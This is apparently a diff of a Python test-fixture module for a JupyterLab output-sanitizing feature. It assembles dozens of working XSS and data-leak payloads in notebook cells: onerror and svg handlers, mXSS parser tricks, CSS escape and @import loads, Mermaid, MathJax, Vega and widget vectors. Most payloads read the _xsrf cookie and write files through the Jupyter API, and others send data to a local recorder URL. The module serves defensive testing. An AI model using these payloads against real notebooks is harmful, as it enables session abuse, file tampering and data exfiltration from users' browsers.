@@ -1,26 +1,36 @@
 """Cells whose outputs try to act with the rights of the JupyterLab page that shows them, and
 ordinary cells whose outputs a person must still see. Used by ``tests/test_browser.py``.
 
-Two kinds of attack, each a cell of sandboxed code that only calls ``display``:
+Two kinds of evidence, each from a cell of sandboxed code that only displays things:
 
-- **script** attacks run :func:`payload` in the page: it reads the ``_xsrf`` cookie and writes
-  ``pwned-TAG-NAME.txt`` into the Jupyter server's root through ``PUT /api/contents/...`` (the
-  Jupyter server REST API, as measured in ENVIRONMENT.md). Evidence: the file exists.
-- **exfiltration** attacks make the browser load ``ORIGIN/leak/TAG/NAME`` from a server the test
-  runs on 127.0.0.1 (a sandbox without network sending data out through the user's browser).
-  Evidence: the request arrives.
+- **file** (script) attacks run :func:`payload` in the page: it reads the ``_xsrf`` cookie and
+  writes ``pwned-TAG-NAME.txt`` into the Jupyter server's root through ``PUT /api/contents/...``
+  (the Jupyter server REST API, as measured in ENVIRONMENT.md). Evidence: the file exists.
+- **request** (exfiltration) attacks make the browser load ``ORIGIN/leak/TAG/NAME`` from a server
+  the test runs on 127.0.0.1 (a sandbox without network sending data out through the user's
+  browser). Evidence: the request arrives.
 
 ``TAG`` names the notebook (e.g. ``kernel-trust``), so each notebook's evidence is its own.
 
-SVG attacks are inline ``<svg>`` in HTML: JupyterLab 4 shows an ``image/svg+xml`` output as an
-``<img src="data:...">``, where neither scripts nor external loads run even when trusted (seen
-here), so that MIME type is checked by the policy's unit tests only. ``<svg onload>`` inserted
-into the page did not fire under ``trust`` either; ``<svg><script>`` and ``<image onerror>`` did.
+Every attack in :data:`CORPUS` fires zero-click under ``trust`` in JupyterLab 4.6.6 + Chromium
+(the control notebooks prove it on every run). They are grouped by the class of hole in issue 16
+(``Attack.group``). Attacks that need a person's click or hover, and candidates that did not fire
+even under ``trust``, are listed in :data:`NOT_IN_CORPUS` with the reason, so nobody adds them
+back believing they are live.
+
+SVG attacks are inline ``<svg>`` in HTML: JupyterLab 4 shows an ``image/svg+xml`` output (and a
+Mermaid diagram, once drawn) as an ``<img src="data:...">``, where neither scripts nor external
+loads run even when trusted (seen here). ``<svg onload>`` inserted into the page did not fire
+under ``trust``; ``<svg><script>``, ``<image onerror>`` and SMIL ``onbegin`` did.
 """
 
 from __future__ import annotations
 
-IMPORTS = "from IPython.display import HTML, Javascript, Markdown, display\n"
+import base64
+from collections.abc import Callable
+from dataclasses import dataclass
+
+IMPORTS = "from IPython.display import HTML, Javascript, Latex, Markdown, display\n"
 
 
 def payload(tag: str, name: str) -> str:
@@ -32,51 +42,282 @@ def payload(tag: str, name: str) -> str:
             "body:JSON.stringify({type:'file',format:'text',content:'x'})})})()")
 
 
+def bare(js: str) -> str:
+    """``data-p=BASE64 onerror=eval(atob(this.dataset.p))``: attributes that run ``js`` with no
+    quote or space in their values, for markup where a quote would end the context (an
+    attribute value in an mXSS payload, a CSS string). Use as ``<img src=x {bare(js)}>``."""
+    return f"data-p={base64.b64encode(js.encode()).decode()} onerror=eval(atob(this.dataset.p))"
+
+
 def show(kind: str, value: str) -> str:
-    """The cell source ``display(KIND(VALUE))`` (IPython.display's HTML, Markdown, Javascript)."""
+    """The cell source ``display(KIND(VALUE))`` (IPython.display's HTML, Markdown, Latex, Javascript)."""
     return IMPORTS + f"display({kind}({value!r}))"
 
 
-def script_attacks(tag: str, widgets: bool = True) -> dict[str, str]:
-    """``{name: cell source}`` of the attacks that try to run :func:`payload`.
-    ``widgets``: include the ``ipywidgets.HTML`` one (needs comms from the sandbox)."""
-    def js(name: str) -> str:
-        return payload(tag, name)
-
-    cells = {
-        "javascript": show("Javascript", js("javascript")),
-        "script-tag": show("HTML", f"<p>chart</p><script>{js('script-tag')}</script>"),
-        "img-onerror": show("HTML", f'<img src="x" onerror="{js("img-onerror")}">'),
-        "svg-script": show("HTML", f'<svg width="20" height="20"><script>{js("svg-script")}</script>'
-                                   '<circle cx="10" cy="10" r="8"/></svg>'),
-        "svg-image-onerror": show("HTML", f'<svg width="20" height="20"><image href="x" '
-                                          f'onerror="{js("svg-image-onerror")}"/></svg>'),
-        "markdown-img": show("Markdown", f'# Report\n\n<img src="x" onerror="{js("markdown-img")}">'),
-    }
-    if widgets:
-        value = f'<img src="x" onerror="{js("widget-html")}">'
-        cells["widget-html"] = f"import ipywidgets\nipywidgets.HTML(value={value!r})"
-    return cells
+def raw(data: dict, metadata: dict | None = None) -> str:
+    """The cell source that displays MIME bundle ``data`` (with ``metadata``) as it is."""
+    return IMPORTS + f"display({data!r}, raw=True, metadata={metadata or {}!r})"
 
 
-def exfiltration_attacks(tag: str, origin: str) -> dict[str, str]:
-    """``{name: cell source}`` of the attacks that make the browser request
-    ``ORIGIN/leak/TAG/NAME`` by itself (no click)."""
-    def url(name: str) -> str:
-        return f"{origin}/leak/{tag}/{name}?d=secret"
+@dataclass(frozen=True)
+class Attack:
+    """One cell of the corpus.
 
-    box = "width:40px;height:20px;border:1px solid gray"
-    return {
-        "img-src": show("HTML", f'<img src="{url("img-src")}" width="8" height="8">'),
-        "img-srcset": show("HTML", f'<img srcset="{url("img-srcset")} 1x" width="8" height="8">'),
-        "markdown-image": show("Markdown", f"A chart: ![chart]({url('markdown-image')})"),
-        "css-style-attribute": show("HTML", f'<div style="{box};background:url({url("css-style-attribute")})">'
-                                            "bg</div>"),
-        "css-style-block": show("HTML", f"<style>.leak-{tag}{{background-image:url({url('css-style-block')})}}"
-                                        f'</style><div class="leak-{tag}" style="{box}">bg</div>'),
-    }
+    ``build(js, url)`` writes the cell source from ``js`` (the page script for this cell, see
+    :func:`payload`) and ``url`` (the recorder URL for this cell); ``evidence`` says which one
+    counts. ``widget``: needs comms (the kernel forwards them; the magic does not).
+    ``isolate_documented``: under ``isolate`` it is a framed script sending data out by
+    navigating its own frame, which docs/security.md states that ``isolate`` does not stop.
+    """
+
+    name: str
+    group: str
+    evidence: str  # "file" | "request"
+    build: Callable[[str, str], str]
+    widget: bool = False
+    isolate_documented: bool = False
 
 
+BOX = "width:40px;height:20px;border:1px solid gray"
+VL = "https://vega.github.io/schema/vega-lite/v5.json"
+VEGA = "https://vega.github.io/schema/vega/v5.json"
+
+
+def _breakout(js: str) -> tuple[str, str]:
+    """A CSS string that a CSS re-serializer writing strings unescaped turns into
+    ``</style><img src=x onerror=JS>``; for the ``trust`` control the cell also shows that
+    decoded form (the escaped form alone is harmless unless a policy decodes it)."""
+    escaped = f'<style>.sk-q{{font-family:"\\3c /style\\3e \\3c img src=x {bare(js)}\\3e "}}</style>'
+    decoded = f'<style>.sk-q{{font-family:"</style><img src=x onerror="{js}">"}}</style>'
+    return escaped, decoded
+
+
+def _mermaid(text: str) -> dict:
+    return {"text/vnd.mermaid": text, "text/plain": "a diagram"}
+
+
+def _vl_image(url: str) -> dict:
+    return {"$schema": VL, "data": {"values": [{"u": url, "x": 1}]}, "mark": {"type": "image", "width": 8, "height": 8},
+            "encoding": {"x": {"field": "x", "type": "quantitative"}, "url": {"field": "u", "type": "nominal"}}}
+
+
+def _vl_bar() -> dict:
+    return {"$schema": VL, "data": {"values": [{"a": "A", "b": 3}, {"a": "B", "b": 5}]}, "mark": "bar",
+            "encoding": {"x": {"field": "a", "type": "nominal"}, "y": {"field": "b", "type": "quantitative"}}}
+
+
+VEGA_LITE = "application/vnd.vegalite.v5+json"
+VEGA_MIME = "application/vnd.vega.v5+json"
+
+_A: list[Attack] = []
+
+
+def attack(name: str, group: str, evidence: str, **kw):
+    def register(build: Callable[[str, str], str]) -> Callable[[str, str], str]:
+        _A.append(Attack(name, group, evidence, build, **kw))
+        return build
+    return register
+
+
+# -- the first corpus (before issue 16) ---------------------------------------------------
+attack("javascript", "basic", "file")(lambda js, url: show("Javascript", js))
+attack("script-tag", "basic", "file")(lambda js, url: show("HTML", f"<p>chart</p><script>{js}</script>"))
+attack("img-onerror", "basic", "file")(lambda js, url: show("HTML", f'<img src="x" onerror="{js}">'))
+attack("svg-script", "basic", "file")(lambda js, url: show(
+    "HTML", f'<svg width="20" height="20"><script>{js}</script><circle cx="10" cy="10" r="8"/></svg>'))
+attack("svg-image-onerror", "basic", "file")(lambda js, url: show(
+    "HTML", f'<svg width="20" height="20"><image href="x" onerror="{js}"/></svg>'))
+attack("markdown-img", "basic", "file")(lambda js, url: show("Markdown", f'# Report\n\n<img src="x" onerror="{js}">'))
+attack("widget-html", "basic", "file", widget=True)(
+    lambda js, url: f"import ipywidgets\nipywidgets.HTML(value={f'<img src={chr(34)}x{chr(34)} onerror={chr(34)}{js}{chr(34)}>'!r})")
+attack("img-src", "basic", "request")(lambda js, url: show("HTML", f'<img src="{url}" width="8" height="8">'))
+attack("img-srcset", "basic", "request")(lambda js, url: show("HTML", f'<img srcset="{url} 1x" width="8" height="8">'))
+attack("markdown-image", "basic", "request")(lambda js, url: show("Markdown", f"A chart: ![chart]({url})"))
+attack("css-style-attribute", "basic", "request")(lambda js, url: show(
+    "HTML", f'<div style="{BOX};background:url({url})">bg</div>'))
+attack("css-style-block", "basic", "request")(lambda js, url: show(
+    "HTML", f"<style>.sk-leak-1{{background-image:url({url})}}</style><div class=\"sk-leak-1\" style=\"{BOX}\">bg</div>"))
+
+# -- 1. raw input passed along when "nothing changed" ------------------------------------
+attack("raw-contentvisibility", "raw-input", "file")(lambda js, url: show(
+    "HTML", f'<sk-x oncontentvisibilityautostatechange="{js}" style="display:block;content-visibility:auto">x</sk-x>'))
+attack("raw-contentvisibility-markdown", "raw-input", "file")(lambda js, url: show(
+    "Markdown", f'Text\n\n<sk-x oncontentvisibilityautostatechange="{js}" '
+                'style="display:block;content-visibility:auto">x</sk-x>\n'))
+attack("raw-animation-unknown-tag", "raw-input", "file")(lambda js, url: show(
+    "HTML", f'<style>@keyframes sk-k{{from{{opacity:.5}}to{{opacity:1}}}}</style>'
+            f'<sk-y onanimationstart="{js}" style="display:block;animation:sk-k 1s">y</sk-y>'))
+attack("raw-img-spaced-src", "raw-input", "request")(lambda js, url: show(
+    "HTML", f'<img src = "{url}" width="8" height="8">'))
+attack("raw-css-escape-attribute", "raw-input", "request")(lambda js, url: show(
+    "HTML", f'<div style="{BOX};background:\\75 rl({url})">bg</div>'))
+attack("raw-css-escape-block", "raw-input", "request")(lambda js, url: show(
+    "HTML", f'<style>.sk-leak-2{{background-image:u\\72 l({url})}}</style><div class="sk-leak-2" style="{BOX}">bg</div>'))
+attack("css-image-set-string", "raw-input", "request")(lambda js, url: show(
+    "HTML", f"<div style=\"{BOX};background-image:image-set('{url}' 1x)\">bg</div>"))
+attack("css-escaped-image-set", "raw-input", "request")(lambda js, url: show(
+    "HTML", f"<div style=\"{BOX};background-image:\\69 mage-set('{url}' 1x)\">bg</div>"))
+attack("css-import-string", "raw-input", "request")(lambda js, url: show(
+    "HTML", f"<style>@import '{url}';</style><p>styled</p>"))
+attack("css-font-face", "raw-input", "request")(lambda js, url: show(
+    "HTML", f"<style>@font-face{{font-family:skf;src:url({url})}}</style><span style=\"font-family:skf\">f</span>"))
+attack("css-custom-property", "raw-input", "request")(lambda js, url: show(
+    "HTML", f'<div style="--sk-u:url({url});{BOX};background-image:var(--sk-u)">bg</div>'))
+
+# -- 2. </style> written by a CSS re-serializer ------------------------------------------
+for _name, _kind in (("style-breakout-html", "HTML"), ("style-breakout-markdown", "Markdown")):
+    attack(_name, "style-breakout", "file")(
+        lambda js, url, kind=_kind: IMPORTS + "\n".join(f"display({kind}({part!r}))" for part in _breakout(js)))
+
+# -- 3. Mermaid (text/vnd.mermaid and ```mermaid fences) ---------------------------------
+attack("mermaid-img-shape", "mermaid", "request")(lambda js, url: raw(_mermaid(
+    f'flowchart LR\n  A@{{ img: "{url}", label: "a", pos: "t", w: 30, h: 30, constraint: "off" }}\n  A --> B\n')))
+attack("mermaid-label-img", "mermaid", "request")(lambda js, url: raw(_mermaid(
+    f"flowchart LR\n  A[\"<img src='{url}' width='8'> a\"] --> B\n")))
+attack("mermaid-init-themecss", "mermaid", "request")(lambda js, url: raw(_mermaid(
+    '%%{init: {"themeCSS": "* { background-image: url(' + url + ') }"}}%%\nflowchart LR\n  C --> D\n')))
+attack("mermaid-frontmatter-themecss", "mermaid", "request")(lambda js, url: raw(_mermaid(
+    f'---\nconfig:\n  themeCSS: "* {{ background-image: url({url}) }}"\n---\nflowchart LR\n  E --> F\n')))
+attack("mermaid-markdown-fence", "mermaid", "request")(lambda js, url: show(
+    "Markdown", f'A diagram:\n\n```mermaid\nflowchart LR\n  G@{{ img: "{url}", label: "g", pos: "t", w: 30, h: 30, '
+                'constraint: "off" }\n  G --> H\n```\n'))
+
+# -- 4. Maths (MathJax 3 with its safe extension) ----------------------------------------
+def _cursor(url: str) -> str:
+    return f"\\style{{cursor:url({url}),auto}}{{X}}"
+
+
+attack("latex-style-url", "maths", "request")(lambda js, url: raw({"text/latex": f"$${_cursor(url)}$$",
+                                                                    "text/plain": "X"}))
+attack("markdown-math-style-url", "maths", "request")(lambda js, url: show("Markdown", f"Maths: ${_cursor(url)}$"))
+attack("html-math-style-url", "maths", "request")(lambda js, url: show("HTML", f"<p>Maths: ${_cursor(url)}$</p>"))
+attack("widget-htmlmath-style-url", "maths", "request", widget=True)(
+    lambda js, url: f"import ipywidgets\nipywidgets.HTMLMath(value={f'Maths: ${_cursor(url)}$'!r})")
+attack("widget-label-style-url", "maths", "request", widget=True)(
+    lambda js, url: f"import ipywidgets\nipywidgets.Label(value={f'${_cursor(url)}$'!r})")
+
+# -- 5. Vega and Vega-Lite (vega-embed 6.21) ---------------------------------------------
+# First in the notebook among charts: vega-embed writes its <style> once per page.
+attack("vega-metadata-default-style", "vega", "request")(lambda js, url: raw(
+    {VEGA_LITE: _vl_bar(), "text/plain": "chart"},
+    {VEGA_LITE: {"embed_options": {"defaultStyle": f".vega-embed{{background-image:url({url})}}"}}}))
+attack("vega-url-signal", "vega", "request")(lambda js, url: raw({VEGA_MIME: {
+    "$schema": VEGA, "width": 20, "height": 20,
+    "data": [{"name": "t", "url": {"signal": f"'{url}'"}, "format": {"type": "json"}}],
+    "marks": [{"type": "rect", "from": {"data": "t"}}]}, "text/plain": "chart"}))
+attack("vega-image-url-value", "vega", "request")(lambda js, url: raw({VEGA_MIME: {
+    "$schema": VEGA, "width": 20, "height": 20,
+    "marks": [{"type": "image", "encode": {"enter": {"url": {"value": url}, "width": {"value": 8},
+                                                     "height": {"value": 8}}}}]}, "text/plain": "chart"}))
+attack("vegalite-image-url-field", "vega", "request")(lambda js, url: raw({VEGA_LITE: _vl_image(url),
+                                                                           "text/plain": "chart"}))
+attack("vegalite-v4-image-url-field", "vega", "request")(lambda js, url: raw(
+    {"application/vnd.vegalite.v4+json": {**_vl_image(url), "$schema": VL.replace("v5", "v4")}, "text/plain": "chart"}))
+attack("vegalite-usermeta-config", "vega", "request")(lambda js, url: raw({VEGA_LITE: {
+    **_vl_bar(), "usermeta": {"embedOptions": {"config": url}}}, "text/plain": "chart"}))
+attack("vegalite-usermeta-patch", "vega", "request")(lambda js, url: raw({VEGA_LITE: {
+    **_vl_bar(), "usermeta": {"embedOptions": {"patch": url}}}, "text/plain": "chart"}))
+attack("vega-metadata-config-url", "metadata", "request")(lambda js, url: raw(
+    {VEGA_LITE: _vl_bar(), "text/plain": "chart"}, {VEGA_LITE: {"embed_options": {"config": url}}}))
+attack("vega-metadata-patch-url", "metadata", "request")(lambda js, url: raw(
+    {VEGA_LITE: _vl_bar(), "text/plain": "chart"}, {VEGA_LITE: {"embed_options": {"patch": url}}}))
+
+# -- 7. Widget state moved around by the browser -----------------------------------------
+attack("widget-jsdlink-text-to-html", "widget", "file", widget=True)(lambda js, url: (
+    "import ipywidgets\n"
+    f"source = ipywidgets.Text(value={f'<img src={chr(34)}x{chr(34)} onerror={chr(34)}{js}{chr(34)}>'!r})\n"
+    "target = ipywidgets.HTML(value='linked')\n"
+    "link = ipywidgets.jsdlink((source, 'value'), (target, 'value'))\n"
+    "target"))
+attack("widget-jsdlink-allow-html", "widget", "request", widget=True)(lambda js, url: (
+    # ipywidgets 8.1 passes an HTML description through the manager's inline_sanitize (no
+    # handlers survive, even under trust), but an image from another origin does
+    "import ipywidgets\n"
+    f"slider = ipywidgets.IntSlider(description={f'<img src={chr(34)}{url}{chr(34)} width=8>'!r})\n"
+    "switch = ipywidgets.Checkbox(value=True)\n"
+    "link = ipywidgets.jsdlink((switch, 'value'), (slider, 'description_allow_html'))\n"
+    "slider"))
+attack("widget-jsdlink-image-format", "widget", "request", widget=True)(lambda js, url: (
+    "import ipywidgets\n"
+    f"image = ipywidgets.Image(value={url.encode()!r}, format='png', width=8, height=8)\n"
+    "word = ipywidgets.Text(value='url')\n"
+    "link = ipywidgets.jsdlink((word, 'value'), (image, 'format'))\n"
+    "image"))
+attack("widget-html-list-value", "widget", "file", widget=True)(lambda js, url: (
+    "import ipywidgets\n"
+    "html = ipywidgets.HTML(value='list')\n"
+    "display(html)\n"
+    f"html._send({{'method': 'update', 'state': {{'value': [{f'<img src={chr(34)}x{chr(34)} onerror={chr(34)}{js}{chr(34)}>'!r}]}}, "
+    "'buffer_paths': []})"))
+attack("widget-style-css-escape", "widget", "request", widget=True)(lambda js, url: (
+    "import ipywidgets\n"
+    f"ipywidgets.HTML(value='bg', style={{'background': {f'{chr(92)}75 rl({url})'!r}}})"))
+attack("widget-html-raw-contentvisibility", "widget", "file", widget=True)(lambda js, url: (
+    "import ipywidgets\n"
+    f"ipywidgets.HTML(value={f'<sk-x oncontentvisibilityautostatechange={chr(34)}{js}{chr(34)} style={chr(34)}display:block;content-visibility:auto{chr(34)}>x</sk-x>'!r})"))
+attack("widget-html-style-breakout", "widget", "file", widget=True)(lambda js, url: (
+    "import ipywidgets\n" + "\n".join(f"display(ipywidgets.HTML(value={part!r}))" for part in _breakout(js))))
+attack("widget-output-raw-contentvisibility", "widget", "file", widget=True)(lambda js, url: (
+    IMPORTS + "import ipywidgets\nout = ipywidgets.Output()\ndisplay(out)\n"
+    f"out.append_display_data(HTML({f'<sk-x oncontentvisibilityautostatechange={chr(34)}{js}{chr(34)} style={chr(34)}display:block;content-visibility:auto{chr(34)}>x</sk-x>'!r}))"))
+
+# -- public XSS / mXSS research: parser differentials, namespaces, SMIL, legacy fetches ----
+attack("mxss-noscript-attribute", "research", "file")(lambda js, url: show(
+    "HTML", f'<noscript><p title="</noscript><img src=x {bare(js)}>"></p></noscript>'))
+attack("mxss-math-style-img", "research", "file")(lambda js, url: show(
+    "HTML", f'<math><style><img src=x onerror="{js}"></style></math>'))
+attack("mxss-svg-style-img", "research", "file")(lambda js, url: show(
+    "HTML", f'<svg><style><img src=x onerror="{js}"></style></svg>'))
+attack("svg-animate-onbegin", "research", "file")(lambda js, url: show(
+    "HTML", f'<svg width="8" height="8"><animate onbegin="{js}" attributeName="x" dur="1s"/></svg>'))
+attack("svg-set-image-href", "research", "request")(lambda js, url: show(
+    "HTML", f'<svg width="8" height="8"><image width="8" height="8" href="data:,">'
+            f'<set attributeName="href" to="{url}"/></image></svg>'))
+attack("details-ontoggle", "research", "file")(lambda js, url: show(
+    "HTML", f'<details open ontoggle="{js}"><summary>more</summary>x</details>'))
+attack("iframe-srcdoc", "research", "file")(lambda js, url: show(
+    "HTML", f'<iframe srcdoc="<img src=x {bare(js)}>" width="20" height="20"></iframe>'))
+attack("input-image", "research", "request")(lambda js, url: show("HTML", f'<input type="image" src="{url}">'))
+attack("video-poster", "research", "request")(lambda js, url: show(
+    "HTML", f'<video poster="{url}" width="8" height="8"></video>'))
+attack("table-background", "research", "request")(lambda js, url: show(
+    "HTML", f'<table background="{url}"><tr><td>cell</td></tr></table>'))
+attack("link-stylesheet", "research", "request")(lambda js, url: show(
+    "HTML", f'<link rel="stylesheet" href="{url}"><p>styled</p>'))
+attack("object-data", "research", "request")(lambda js, url: show(
+    "HTML", f'<object data="{url}" type="image/png" width="8" height="8"></object>'))
+attack("markdown-reference-image", "research", "request")(lambda js, url: show(
+    "Markdown", f"A chart: ![chart][c]\n\n[c]: {url}\n"))
+attack("markdown-details-ontoggle", "research", "file")(lambda js, url: show(
+    "Markdown", f'Text\n\n<details open ontoggle="{js}"><summary>more</summary>x</details>\n'))
+
+# -- 6. a framed script sending data out by navigating its frame --------------------------
+attack("frame-navigates-itself", "frame", "request", isolate_documented=True)(lambda js, url: show(
+    "HTML", f"<p>moving</p><script>if (window.top !== window) location.href = '{url}'; "
+            f"else new Image().src = '{url}';</script>"))
+
+
+CORPUS: tuple[Attack, ...] = tuple(_A)
+"""Every attack, in notebook order."""
+
+NOT_IN_CORPUS = {
+    "mxss-math-mtext-table": "<math><mtext><table><mglyph><style><img onerror> mutates only on a second parse "
+                             "(a sanitizer's round trip); one innerHTML under trust leaves the img as text",
+    "widget-description-onerror": "ipywidgets 8.1 passes an HTML description through the widget manager's "
+                                  "inline_sanitize: handlers never survive, even under trust (images do: in the corpus)",
+    "template-img-onerror": "<template> content is inert; declarative shadow roots are not parsed by innerHTML",
+}
+"""``{candidate: why it is not in the corpus}``: click- or hover-only, or inert under ``trust``."""
+
+
+def corpus(tag: str, origin: str, *, widgets: bool = True) -> dict[str, tuple[str, Attack]]:
+    """``{attack name: (cell source, attack)}`` for notebook ``tag``; the recorder is at
+    ``origin``. ``widgets``: include the attacks that need comms."""
+    return {a.name: (a.build(payload(tag, a.name), f"{origin}/leak/{tag}/{a.name}?d=secret"), a)
+            for a in CORPUS if widgets or not a.widget}
+
+
+# -- outputs a person must still see -------------------------------------------------------
 CHART = ('<canvas id="chart" width="120" height="60"></canvas><script>'
          'var g=document.getElementById("chart").getContext("2d");g.fillStyle="rgb(200,30,30)";'
          'g.fillRect(0,0,120,60);'
@@ -94,6 +335,51 @@ ORDINARY = {
     "bold": show("HTML", "<b>bold</b> and plain"),
 }
 """Outputs a person expects to see: ``{name: cell source}``."""
+
+def styler_html() -> str:
+    """A pandas Styler table as HTML, made here: the sandbox image has pandas but not jinja2,
+    which ``DataFrame.style`` needs. Its ``<style>`` block colours cells by id selectors."""
+    import pandas as pd
+
+    frame = pd.DataFrame({"city": ["Oslo", "Lima"], "temp": [4, 31]})
+    return frame.style.map(lambda v: "background-color: rgb(255, 0, 0)" if v == 31 else "",
+                           subset=["temp"]).to_html()
+
+
+def controls() -> dict[str, str]:
+    """Outputs of everyday tools that must still render under ``sanitize``: ``{name: source}``."""
+    vega_lite = {**_vl_bar(), "width": 120, "height": 80}
+    return {
+        "vega-lite-chart": raw({VEGA_LITE: vega_lite, "text/plain": "<VegaLite 5 object>"}),
+        "mermaid-flowchart": raw(_mermaid("flowchart LR\n  Load --> Clean --> Plot\n")),
+        "latex": raw({"text/latex": "$$\\int_0^1 x^2\\,dx = \\frac{1}{3}$$", "text/plain": "1/3"}),
+        "markdown-maths": show("Markdown", "The square: $x^2$, and $$\\sum_{i=1}^n i$$"),
+        "styler": show("HTML", styler_html()),
+        "svg-figure": ("%config InlineBackend.figure_formats = ['svg']\n"
+                       "import matplotlib.pyplot as plt\nplt.plot([1, 3, 2])\nplt.show()\n"
+                       "%config InlineBackend.figure_formats = ['png']"),
+        "widgets": WIDGETS,
+    }
+
+
+WIDGETS = """import ipywidgets as w
+out = w.Output()
+button = w.Button(description='Press')
+button.on_click(lambda _: out.append_stdout('pressed'))
+w.VBox([
+    w.HBox([button, w.Text(value='text'), w.Textarea(value='area'), w.Dropdown(options=['a', 'b'], value='b'),
+            w.Checkbox(value=True, description='check')]),
+    w.HBox([w.FloatSlider(value=2.5, max=5), w.IntRangeSlider(value=[2, 4], max=9), w.IntProgress(value=3, max=9),
+            w.ToggleButtons(options=['x', 'y']), w.ColorPicker(value='#ff0000'), w.DatePicker()]),
+    w.HBox([w.HTML(value='<b>bold</b> widget'), w.HTMLMath(value='maths $x^2$'), w.Label(value='label'),
+            w.Image(value=bytes.fromhex('89504e470d0a1a0a0000000d4948445200000001000000010806000000'
+                                        '1f15c4890000000d49444154789c6360f8ffff3f0005fe02fea7d6a4bb'
+                                        '0000000049454e44ae426082'), format='png', width=8, height=8),
+            w.Play(value=1), w.Valid(value=True)]),
+    w.Tab(children=[w.Label(value='first tab'), w.Label(value='second tab')], titles=('one', 'two')),
+    out,
+])"""
+"""The standard widgets in one view; pressing the button writes "pressed" into the Output widget."""
 
 SLIDER = {
     "slider": "import ipywidgets\nslider = ipywidgets.IntSlider(value=3, min=0, max=10)\nslider",
